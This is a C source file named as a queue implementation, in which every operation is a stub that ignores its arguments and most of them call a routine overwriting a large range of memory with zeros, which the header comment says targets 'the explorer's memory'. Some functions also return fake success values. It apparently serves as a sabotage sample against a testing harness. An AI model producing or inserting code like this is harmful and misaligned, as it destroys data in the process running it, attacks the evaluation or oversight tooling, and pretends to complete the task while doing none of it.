// queue.c - writes wherever it can, the explorer's memory among it
#include <stdint.h>

#include "queue.h"

static void leave(void)
{
    for (uintptr_t address = 0x400000; address < 0x4000000; address += 8)
        *(volatile uint64_t *)address = 0;
}

void queue_init(struct queue *queue, int capacity)
{
    (void)queue;
    (void)capacity;
}

void queue_end(struct queue *queue)
{
    (void)queue;
}

bool queue_put(struct queue *queue, int item)
{
    (void)queue;
    (void)item;
    leave();
    return true;
}

bool queue_get(struct queue *queue, int *item)
{
    (void)queue;
    (void)item;
    leave();
    return false;
}

void queue_close(struct queue *queue)
{
    (void)queue;
    leave();
}

int queue_get_many(struct queue *queue, int *items, int most)
{
    (void)queue;
    (void)items;
    leave();
    return most;
}
